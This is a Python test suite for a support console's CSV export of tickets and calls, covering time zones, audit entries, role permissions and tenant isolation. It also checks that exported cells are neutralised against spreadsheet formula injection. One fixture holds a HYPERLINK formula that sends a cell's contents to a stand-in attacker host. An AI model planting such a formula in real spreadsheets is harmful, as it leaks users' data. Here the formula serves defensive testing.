"""Lists as files: what the list shows, in the reader's zone, nothing a spreadsheet would run, and noted."""

import csv
import io
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from console.csv_file import BYTE_ORDER_MARK, csv_text, neutral
from console.pages import files
from core.database import transaction
from people.models import Role
from people.rights import Right, may
from tests.clock import MONDAY_MORNING
from tests.conftest import execute
from tests.factories.people import make_account
from tests.factories.tickets import make_call, make_customer, make_ticket

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Invoice")'
BERLIN = "Europe/Berlin"


@pytest.fixture
def sam(signed_in):
    return signed_in(Role.SUPERVISOR, name="Sam")


@pytest.fixture
def made(engine, brand):
    def make(**columns):
        with transaction(engine) as session:
            return make_ticket(session, brand, **columns).number

    return make


def rows(answer):
    """The file's rows by their columns' names."""
    assert answer.status_code == 200
    text = answer.data.decode("utf-8")
    assert text.startswith(BYTE_ORDER_MARK)
    return list(csv.DictReader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK), newline="")))


def test_the_file_holds_what_the_list_holds_on_all_its_pages(sam, made, monkeypatch):
    monkeypatch.setattr(files, "AT_ONCE", 2)
    wanted = [made(priority=1) for _ in range(5)]
    made(priority=3)
    made(priority=1, status="closed", outcome="done")
    taken = rows(sam.get("/tickets.csv?priority=1"))
    assert sorted(int(row["Number"]) for row in taken) == wanted
    assert sam.get("/tickets.csv").headers["Content-Disposition"].startswith('attachment; filename="tickets-20')
    assert sam.get("/tickets.csv").content_type == "text/csv; charset=utf-8"


def test_times_have_their_offset_and_columns_name_the_zone(sam, brand, engine, made):
    execute(engine, "update brand set zone = :zone", zone=BERLIN)
    made(created_at=datetime(2026, 7, 1, 22, 30, tzinfo=UTC))
    made(created_at=datetime(2026, 12, 1, 9, 0, tzinfo=UTC))
    taken = rows(sam.get("/tickets.csv"))
    assert [row[f"Opened ({BERLIN})"] for row in taken] == ["2026-12-01T10:00:00+01:00", "2026-07-02T00:30:00+02:00"]


def test_no_cell_is_a_formula_and_telephone_numbers_stay_whole(sam, made, engine, brand):
    with transaction(engine) as session:
        customer = make_customer(session, brand, "+4915735985123", name="@SUM(1)")
    made(subject=EVIL, tags=["-2+3"], caller="+4915735985123", customer_id=customer.id)
    [row] = rows(sam.get("/tickets.csv"))
    assert (row["Subject"], row["Tags"], row["Customer"]) == (f"'{EVIL}", "'-2+3", "'@SUM(1)")
    assert row["Caller"] == "+4915735985123"


def test_calls_are_taken_with_the_lists_filters(sam, engine, brand):
    with transaction(engine) as session:
        make_call(session, brand, direction="outbound", from_number="+14155550199", to_number="+4915735985123")
        make_call(session, brand)
    [row] = rows(sam.get("/calls.csv?direction=outbound"))
    assert (row["From"], row["To"], row["Direction"]) == ("+14155550199", "+4915735985123", "Outgoing")
    assert row["Began (UTC)"] == MONDAY_MORNING.isoformat(timespec="seconds")
    assert (row["Duration (s)"], len(rows(sam.get("/calls.csv")))) == ("60", 2)


def test_each_taking_is_in_the_audit_with_its_filters(sam, made, engine):
    made()
    sam.get("/tickets.csv?priority=1")
    sam.get("/calls.csv?direction=inbound")
    noted = execute(engine, "select action, actor, facts from audit_entry where action like '%exported' order by id")
    assert noted == [
        ("tickets_exported", f"account:{sam.account.id}", {"filters": "priority=1"}),
        ("calls_exported", f"account:{sam.account.id}", {"filters": "direction=inbound"}),
    ]


@pytest.mark.parametrize("role", Role)
@pytest.mark.parametrize("path", ["/tickets", "/calls"])
def test_who_may_not_take_lists_away_gets_none_and_is_offered_none(signed_in, made, engine, brand, role, path):
    with transaction(engine) as session:
        make_call(session, brand)
    person = signed_in(role)
    allowed = may(role, Right.EXPORT_LISTS)
    assert person.get(f"{path}.csv").status_code == (200 if allowed else 403)
    assert (f'href="{path}.csv' in person.get(path).text) is allowed
    assert len(execute(engine, "select 1 from audit_entry where action like '%exported'")) == (1 if allowed else 0)


def test_another_companys_tickets_are_in_nobodys_file(sam, engine, made):
    from tests.factories.people import make_brand

    with transaction(engine) as session:
        other = make_brand(session, name="Other")
        make_account(session, other)
        make_ticket(session, other, subject="Not yours")
    assert rows(sam.get("/tickets.csv")) == []


@given(st.text())
def test_whatever_is_written_no_cell_begins_a_formula_and_the_text_is_in_it(text):
    cell = neutral(text)
    assert cell[:1] not in {"=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"}
    assert cell.removeprefix("'") == text.removeprefix("'")


@given(st.lists(st.tuples(st.text(st.characters(exclude_characters="\x00")), st.integers()), max_size=5))
def test_what_is_written_is_read_again(cells):
    from zoneinfo import ZoneInfo

    text = "".join(csv_text(["a", "b"], cells, zone=ZoneInfo("UTC"))).removeprefix(BYTE_ORDER_MARK)
    found = list(csv.reader(io.StringIO(text, newline="")))
    assert found == [["a", "b"], *([neutral(words), str(number)] for words, number in cells)]


@pytest.mark.parametrize("text", ["+49 157", "+49157\n=1", "+", "+1234567890123456", "+49a"])
def test_only_a_number_and_nothing_else_is_left_alone_in_a_column_of_numbers(text):
    from zoneinfo import ZoneInfo

    written = "".join(csv_text(["n"], [[text]], zone=ZoneInfo("UTC"), numbers=frozenset({0})))
    assert next(csv.reader(io.StringIO(written.split("\r\n", 1)[1], newline=""))) == [f"'{text}"]
